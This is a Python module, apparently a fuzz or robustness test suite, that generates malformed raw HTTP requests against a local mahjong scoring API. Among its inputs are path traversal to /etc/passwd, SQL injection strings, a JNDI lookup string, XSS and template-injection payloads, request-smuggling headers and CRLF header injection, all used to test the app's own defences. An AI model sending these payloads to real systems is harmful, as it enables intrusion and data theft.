"""Requests that nobody sends by accident: raw bytes for a socket, each with what it tries.

Every one is the same at each run. `GAME` and `TOKEN` in them stand for a game and its write token.
"""

import gzip
import itertools
import json
from collections.abc import Iterator
from urllib.parse import quote

HOST = "127.0.0.1"
GAME, TOKEN = "GAME", "TOKEN"
JSON = {"Content-Type": "application/json"}
SEATED = {**JSON, "Authorization": f"Bearer {TOKEN}"}

Attack = tuple[str, bytes]


def request(
    method: str, path: str, headers: dict[str, str] | None = None, body: bytes | None = None
) -> bytes:
    """A request by the book, up to what it holds."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {HOST}", "Connection: close"]
    lines += [f"{name}: {value}" for name, value in (headers or {}).items()]
    if body is not None:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", ""]).encode("utf-8", "surrogatepass") + (body or b"")


def lines(*text: str | bytes) -> bytes:
    """A request line for line, as it stands here."""
    parts = [one if isinstance(one, bytes) else one.encode("latin-1") for one in text]
    return b"\r\n".join([*parts, b"", b""])


def of_the_protocol() -> Iterator[Attack]:
    """Requests that are none, or two, or not what they say."""
    first, host = "GET /healthz/live HTTP/1.1", f"Host: {HOST}"
    for line in (
        "GET",
        "GET /",
        "GET  /  HTTP/1.1",
        "GET / HTTP/9.9",
        "GET / HTTP/1.1 extra",
        "get /healthz/live HTTP/1.1",
        "G\x00T / HTTP/1.1",
        "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        "PRI * HTTP/2.0",
        "OPTIONS * HTTP/1.1",
        "CONNECT 10.0.0.1:22 HTTP/1.1",
        "TRACE / HTTP/1.1",
        "GET http://elsewhere.test/healthz/live HTTP/1.1",
        "GET //elsewhere.test/ HTTP/1.1",
        "GET /\\elsewhere.test HTTP/1.1",
        "GET ftp://elsewhere.test/ HTTP/1.1",
        "GET /healthz/live?\x7f HTTP/1.1",
        "GET /healthz/live#part HTTP/1.1",
        "GET /%00 HTTP/1.1",
        "GET /%zz HTTP/1.1",
        "GET /% HTTP/1.1",
        "GET /\xff\xfe HTTP/1.1",
        "BREW /pot HTTP/1.1",
        f"{'A' * 5000} / HTTP/1.1",
        f"GET /{'a' * 60_000} HTTP/1.1",
    ):
        yield f"request line {line[:40]!r}", lines(line, host)
    for header in (
        "Host: ",
        "Host: elsewhere.test",
        "Host: a\x00b",
        "Host: 127.0.0.1:99999999",
        "Host: [::1",
        "X: a\x00b",
        "X: \xff\xfe",
        "X : space",
        ": none",
        "X",
        " folded: yes",
        f"X: {'a' * 40_000}",
        "Content-Length: -1",
        "Content-Length: 1e3",
        "Content-Length: 99999999999999999999",
        "Content-Length: 5, 6",
        "Content-Length: 0x10",
        "Content-Length: \u0663",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: gzip",
        "Transfer-Encoding:\tchunked",
        "Expect: 200-maybe",
        "Upgrade: websocket",
        "Upgrade: h2c",
        "Connection: Host, Authorization",
        "Range: bytes=0-0,1-1,2-2",
        "Range: bytes=-99999999999999999999",
        "If-None-Match: *",
        "If-Modified-Since: yesterday",
        "Accept-Encoding: gzip;q=NaN",
        "Accept: ../../etc/passwd",
        "Accept-Language: " + ",".join(["zh"] * 2000),
        "Cookie: " + "; ".join(f"c{n}=1" for n in range(900)),
        "Forwarded: for=_hidden;proto=javascript",
        "X-Forwarded-For: 127.0.0.1, \x01",
        "X-Forwarded-Proto: javascript",
        "X-HTTP-Method-Override: DELETE",
        "Last-Event-ID: \xff",
        "Origin: null",
    ):
        sent = header.encode("utf-8")
        for target in ("/healthz/live", "/", "/static/js/api/client.js"):
            yield f"header {header[:40]!r} at {target}", lines(f"GET {target} HTTP/1.1", host, sent)
    chunked = "Transfer-Encoding: chunked"
    for name, body in {
        "no length": b"",
        "huge chunk": b"FFFFFFFFFFFFFFFF\r\n{}",
        "negative chunk": b"-1\r\n{}\r\n0\r\n\r\n",
        "chunk of words": b"zz\r\n{}\r\n0\r\n\r\n",
        "extension": b"2;" + b"a" * 30_000 + b"\r\n{}\r\n0\r\n\r\n",
        "trailer": b"2\r\n{}\r\n0\r\nAuthorization: Bearer x\r\n\r\n",
        "many trailers": b"2\r\n{}\r\n0\r\n" + b"X: y\r\n" * 5000 + b"\r\n",
        "bare feeds": b"2\n{}\n0\n\n",
        "small chunks": b"1\r\n{\r\n" + b"1\r\n \r\n" * 3000 + b"1\r\n}\r\n0\r\n\r\n",
    }.items():
        yield f"chunked: {name}", lines("POST /api/v1/scores HTTP/1.1", host, chunked) + body
    both = lines("POST /api/v1/scores HTTP/1.1", host, "Content-Length: 2", chunked)
    yield "length and chunks", both + b"0\r\n\r\n"
    hidden = lines(first, host)
    yield "a request in a body", request("GET", "/healthz/live", JSON, hidden)
    yield "pipelined", lines(first, host) * 40
    yield "two lengths", lines(first, host, "Content-Length: 2", "Content-Length: 3") + b"{}"
    yield "body of a GET", request("GET", "/api/v1/rules", JSON, b"{" * 2000)
    yield "ten thousand headers", lines(first, host, *["a: b"] * 10_000)


PATHS = (
    "/static/..%2f..%2fcli.py",
    "/static/%2e%2e/%2e%2e/cli.py",
    "/static/....//....//cli.py",
    "/static/..%5c..%5ccli.py",
    "/static/%c0%ae%c0%ae/cli.py",
    "/static/js/api/client.js%00.png",
    "/static/js/",
    "/static",
    "/static//etc/passwd",
    "/static/js/api/client.js/",
    "/sw.js/..",
    "/api/v1/../../etc/passwd",
    "/api/v1/games/%2e%2e/history",
    "/api/v1/games/%F0%9F%80%84",
    "/api/v1/games/%ED%A0%80",
    "/api/v1/games/%00",
    "/api/v1/games/" + "0" * 31,
    "/api/v1/games/" + "0" * 33,
    "/api/v1/games/" + "A" * 32,
    "/api/v1/games/" + "é" * 32,
    f"/api/v1/games/{GAME}%0a",
    f"/api/v1/games/{GAME}%20/history",
    f"/api/v1/games/{GAME};x=1/history",
    f"/api/v1/games/{GAME}/history.csv/",
    f"/api/v1/games/{GAME}/photos/%2e%2e",
    f"/api/v1/games/{GAME}/links/%00",
    f"/api/v1/games/{GAME}/draft/pictures/{'f' * 400}",
    "/api/v1/rules/%7B%7D",
    "/api/v1/rules/" + "f" * 64,
    "/api/v1/rules/" + "F" * 64,
    "/api/v1/rules/hk-500%0d%0aSet-Cookie:%20a=b",
    "/api/v1//rules",
    "/API/V1/rules",
    "/%61pi/v1/rules",
    "/table/%2F%2Felsewhere.test",
    "/openapi.json/",
    "/metrics/..;/healthz",
    "/healthz/live/",
)
QUERIES = (
    "with=",
    "with=%00",
    f"with={GAME}&with={GAME}",
    "&".join(["with=" + "0" * 32] * 60),
    "earlier=maybe",
    "earlier=1&earlier=0",
    "after=-1",
    "after=1e9",
    "after=99999999999999999999",
    "after=%D9%A3",
    "limit=0",
    "limit=-5",
    "limit=999999999",
    "bank_roll=7",
    "__proto__=1",
    "a" * 8000,
    "x[]=1&x[a]=2",
    "%",
    "=&=&=",
    ";".join(["a=b"] * 500),
    "token=x&token=y",
)
READS = ("", "/history", "/history.csv", "/statistics", "/settlement", "/draft", "/export")


def of_addresses() -> Iterator[Attack]:
    """Paths and queries that lead elsewhere, or nowhere."""
    for path, method in itertools.product(PATHS, ("GET", "POST", "DELETE")):
        sent = quote(path, safe="/%;=?&:.+{}[]@!$'()*,~-_|\\")
        yield f"{method} {path[:60]}", request(method, sent, SEATED)
    for read, query in itertools.product(READS, QUERIES):
        yield f"GET {read}?{query[:40]}", request("GET", f"/api/v1/games/{GAME}{read}?{query}")


# What a JSON document may be that is none, or not the one that it looks like.
DOCUMENTS: dict[str, bytes] = {
    "nothing": b"",
    "a blank": b" ",
    "null": b"null",
    "a number": b"1",
    "a list": b"[]",
    "a text": b'"x"',
    "a mark": b'\xef\xbb\xbf{"draw": true}',
    "UTF-16": '{"draw": true}'.encode("utf-16"),
    "UTF-32": '{"draw": true}'.encode("utf-32"),
    "half a letter": b'{"draw": "\xe4"}',
    "packed": gzip.compress(b'{"draw": true}'),
    "twice the same": b'{"draw": true, "draw": false}',
    "two documents": b'{"draw": true}{"draw": true}',
    "a comma more": b'{"draw": true,}',
    "a remark": b'{"draw": true} // so',
    "not a number": b'{"draw": NaN}',
    "infinity": b'{"winner": Infinity}',
    "no end of zeros": b'{"winner": 1e99999}',
    "digits": b'{"winner": ' + b"9" * 5000 + b"}",
    "a whole fraction": b'{"winner": 1.0}',
    "deep lists": b'{"events": ' + b"[" * 40_000 + b"]" * 40_000 + b"}",
    "deep objects": b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
    "many fields": json.dumps({f"f{n}": n for n in range(20_000)}).encode(),
    "an empty name": b'{"": 1}',
    "a name of control": b'{"\\u0000": 1}',
    "half a pair": b'{"hand": "\\ud83c", "winner": 1}',
    "a prototype": b'{"__proto__": {"draw": true}, "constructor": 1}',
    "braces": b'{"{0.__class__}": 1, "%s": 2}',
    "markup": b'{"<img src=x onerror=alert(1)>": 1}',
}
CALLS = (
    ("POST", "/api/v1/scores"),
    ("POST", "/api/v1/games"),
    ("POST", "/api/v1/imports"),
    ("POST", "/api/v1/house-rules"),
    ("POST", "/api/v1/house-rules/preview"),
    ("POST", "/api/v1/waits"),
    ("POST", f"/api/v1/games/{GAME}/hands"),
    ("POST", f"/api/v1/games/{GAME}/hands/preview"),
    ("POST", f"/api/v1/games/{GAME}/undo"),
    ("POST", f"/api/v1/games/{GAME}/adjustments"),
    ("POST", f"/api/v1/games/{GAME}/corrections"),
    ("POST", f"/api/v1/games/{GAME}/links"),
    ("PATCH", f"/api/v1/games/{GAME}/draft"),
)


def of_documents() -> Iterator[Attack]:
    """Bodies that are no JSON, or none that anybody writes by hand."""
    for (name, body), (method, path) in itertools.product(DOCUMENTS.items(), CALLS):
        yield f"{method} {path}: {name}", request(method, path, SEATED, body)


# Values that look like others, or that are too much of something.
TEXTS: tuple[object, ...] = (
    "",
    " ",
    "\u200b",
    "\u202e123m",
    "\uff11\uff12\uff13m",
    "\u0661\u0662\u0663m",
    "123m\u0000",
    "123m\n456m",
    "\ud800",
    "🀄" * 14,
    "e\u0301" * 300,
    "x" * 100_000,
    "()" * 4000,
    "[" * 5000,
    "+",
    "|||||",
    "+1m +1m",
    "(1111s+)" * 30,
    "xxxx",
    "0m0p0s",
    "10m",
    "=1+1",
    "'; DROP TABLE events; --",
    "${jndi:ldap://elsewhere.test}",
    "{{7*7}}",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    True,
    None,
    0,
    -1,
    1.5,
    1e308,
    2**63,
    10**400,
    [],
    {},
    ["123m"],
    {"hand": "123m"},
    [[[[[]]]]],
)
WIN = {"winner": 1, "from": 0, "win": "discard", "faan": 3}
FIELDS: dict[str, tuple[dict[str, object], tuple[str, ...]]] = {
    "/api/v1/scores": (
        {"rules": "hk-500", "hand": "123m 456m 79m 77z (555z) +8m"},
        ("rules", "hand", "seat", "win", "from", "events", "options", "losers", "role"),
    ),
    "/api/v1/games": (
        {"rules": "hk-500", "players": ["Ann", "Bob", "Cid", "Dee"]},
        ("rules", "players", "options", "follows"),
    ),
    f"/api/v1/games/{GAME}/hands": (
        {**WIN},
        ("winner", "from", "win", "faan", "hand", "hands", "scores", "events", "also", "draw"),
    ),
    f"/api/v1/games/{GAME}/adjustments": (
        {"changes": [1, -1, 0, 0], "reason": "chips"},
        ("changes", "reason", "expected_seq"),
    ),
    f"/api/v1/games/{GAME}/notes": ({"seq": 2, "note": "tea"}, ("seq", "note")),
    f"/api/v1/games/{GAME}/swaps": ({"seats": [1, 0, 2, 3]}, ("seats",)),
    f"/api/v1/games/{GAME}/rules": (
        {"rules": "hk-majlife", "options": {"minimum": 1}},
        ("rules", "options", "from_hand"),
    ),
    f"/api/v1/games/{GAME}/links": (
        {"role": "scorekeeper", "name": "a phone"},
        ("role", "name"),
    ),
    f"/api/v1/games/{GAME}/corrections": (
        {"seq": 2, "strike": True},
        ("seq", "strike", "hand", "reason", "swap", "adjustment", "false_win"),
    ),
}


def of_values() -> Iterator[Attack]:
    """Right calls with one value wrong in a way of its own."""
    for path, (right, fields) in FIELDS.items():
        for field, value in itertools.product(fields, TEXTS):
            body = json.dumps({**right, field: value}).encode()
            yield f"{path} {field}={str(value)[:30]!r}", request("POST", path, SEATED, body)
        for field in fields:
            for value in ([None] * 4, ["a"] * 4, [0] * 10_000, [{}] * 4, [1e9, -1e9, 0, 0]):
                body = json.dumps({**right, field: value}).encode()
                yield f"{path} {field}={str(value)[:30]}", request("POST", path, SEATED, body)


EDGE = "----edge"
FORM = f"multipart/form-data; boundary={EDGE}"
END = f"--{EDGE}--\r\n".encode()
PHOTO = 'form-data; name="photo"; filename="a"'
RULES = 'form-data; name="rules"'


def part(disposition: str, body: bytes = b"x", more: str = "") -> bytes:
    """One part of a form, up to its end."""
    head = f"--{EDGE}\r\nContent-Disposition: {disposition}\r\n{more}\r\n".encode()
    return head + body + b"\r\n"


FORMS: dict[str, tuple[str, bytes]] = {
    "no edge": ("multipart/form-data", b"x"),
    "an empty edge": ("multipart/form-data; boundary=", b"--\r\n\r\n----"),
    "a long edge": ("multipart/form-data; boundary=" + "e" * 9000, b"--" + b"e" * 9000),
    "another edge": (FORM, b"--other\r\n\r\nx\r\n--other--"),
    "no end": (FORM, part(PHOTO)),
    "no name": (FORM, part("form-data") + END),
    "no head": (FORM, f"--{EDGE}\r\n\r\nx\r\n".encode() + END),
    "a strange letter set": (f"{FORM}; charset=utf-7", part(RULES, b"+AG0-") + END),
    "an unknown letter set": (f"{FORM}; charset=nonsense", part(RULES) + END),
    "letters that are none": (FORM, part(RULES, b"\xff\xfe") + END),
    "many parts": (FORM, b"".join(part(f'form-data; name="a{n}"') for n in range(3000)) + END),
    "many files": (FORM, part(PHOTO) * 1500 + END),
    "a head without end": (FORM, f"--{EDGE}\r\n".encode() + b"X: y\r\n" * 20_000),
    "a form in a form": (
        FORM,
        part(PHOTO, b"--b\r\n\r\nx\r\n--b--", "Content-Type: multipart/mixed; boundary=b\r\n")
        + END,
    ),
    "a web form": ("application/x-www-form-urlencoded", b"photo=x&rules=hk-500"),
    "a bare picture": ("image/jpeg", b"\xff\xd8\xff\xe0" + bytes(100)),
    "a path": (FORM, part('form-data; name="photo"; filename="../../x\x00.jpg"') + END),
    "a starred path": (FORM, part("form-data; name=photo; filename*=UTF-8''%ff%fe") + END),
}


def of_forms() -> Iterator[Attack]:
    """Uploads that are no forms, or more than one."""
    paths = ("/api/v1/readings", f"/api/v1/games/{GAME}/photos", "/api/v1/frames")
    for (name, (kind, body)), path in itertools.product(FORMS.items(), paths):
        headers = {**SEATED, "Content-Type": kind}
        yield f"{path}: {name}", request("POST", path, headers, body)


KEYS = (
    "",
    " ",
    "a" * 256,
    "a" * 10_000,
    "k\x00",
    "é",
    "牌",
    "k\tk",
    '"; DROP TABLE answers; --',
    "\x7f",
)
CREDENTIALS = (
    "",
    "Bearer",
    "Bearer ",
    "Bearer  x",
    "bearer TOKEN",
    "BEARER TOKEN",
    "Basic VE9LRU46",
    "Bearer TOKEN, Bearer TOKEN",
    "Bearer TOKEN\t",
    "Bearer " + "x" * 8000,
    "Bearer \x00",
    "Bearer é",
    "Digest username=x",
    "TOKEN",
)


def of_headers() -> Iterator[Attack]:
    """Keys, tokens and numbers of events that are none."""
    hands = f"/api/v1/games/{GAME}/hands"
    for key in KEYS:
        headers = {**SEATED, "Idempotency-Key": key}
        yield f"key {key[:20]!r}", request("POST", hands, headers, b'{"draw": true}')
        start = json.dumps({"rules": "hk-500", "players": list("ABCD")}).encode()
        yield f"key of a game {key[:20]!r}", request("POST", "/api/v1/games", headers, start)
    for shown in CREDENTIALS:
        headers = {**JSON, "Authorization": shown}
        yield f"token {shown[:20]!r}", request("POST", hands, headers, b'{"draw": true}')


TOML = (
    "",
    "format = 1",
    "format = 999999999999999999999999",
    "format = 1\nbase = 'hk-500'\nname = ''",
    "format = 1\nbase = 'nope'\nname = 'x'",
    "format = 1\nbase = 'hk-500'\nname = 'x'\n[rows]\nseven_pairs = nan",
    "format = 1\nbase = 'hk-500'\nname = 'x'\n[rows]\nseven_pairs = inf",
    "format = 1\nbase = 'hk-500'\nname = 'x'\n[rows]\nseven_pairs = 1979-05-27",
    f"format = 1\nbase = 'hk-500'\nname = 'x'\n[rows]\nseven_pairs = {'9' * 4000}",
    f"format = 1\nbase = 'hk-500'\nname = '{'x' * 50_000}'",
    "format = 1\nbase = 'hk-500'\nname = \"\\u0000\"",
    "format = 1\nbase = 'hk-500'\nname = \"a\\nb\"",
    "format = 1\nbase = 'hk-500'\nname = '\u202ex'",
    "a = " + "[" * 3000 + "]" * 3000,
    "a = " + "{a=" * 1500 + "1" + "}" * 1500,
    ".".join(["a"] * 4000) + " = 1",
    "\n".join(f"[a{n}]" for n in range(20_000)),
    "[a]\n[a]",
    "a = '''" + "x" * 900_000,
    "\ufeffformat = 1",
    "format = true\nbase = 1\nname = []",
    "format = 1\nbase = 'hk-500'\nname = 'x'\n[options]\nminimum = -1",
    "format = 1\nbase = 'hk-500'\nname = 'x'\n[options]\nstart = 9999999999999999999",
)


def of_house_files() -> Iterator[Attack]:
    """House files that are none."""
    for text in TOML:
        body = json.dumps({"toml": text}).encode()
        yield f"house file {text[:40]!r}", request("POST", "/api/v1/house-rules", JSON, body)


def attacks() -> list[Attack]:
    """All of them."""
    kinds = (
        of_the_protocol,
        of_addresses,
        of_documents,
        of_values,
        of_forms,
        of_headers,
        of_house_files,
    )
    return [attack for kind in kinds for attack in kind()]
